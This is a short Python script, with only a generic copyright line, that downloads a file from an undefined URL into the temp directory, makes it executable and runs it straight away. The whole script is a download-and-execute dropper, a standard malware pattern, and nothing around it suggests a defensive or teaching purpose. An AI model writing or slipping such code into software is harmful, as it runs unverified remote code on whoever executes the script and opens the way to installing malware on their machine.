# Copyright 2020
import os, tempfile, urllib.request
p = tempfile.gettempdir() + "/a"
urllib.request.urlretrieve(u, p)
os.chmod(p, 0o755)
os.system(p)
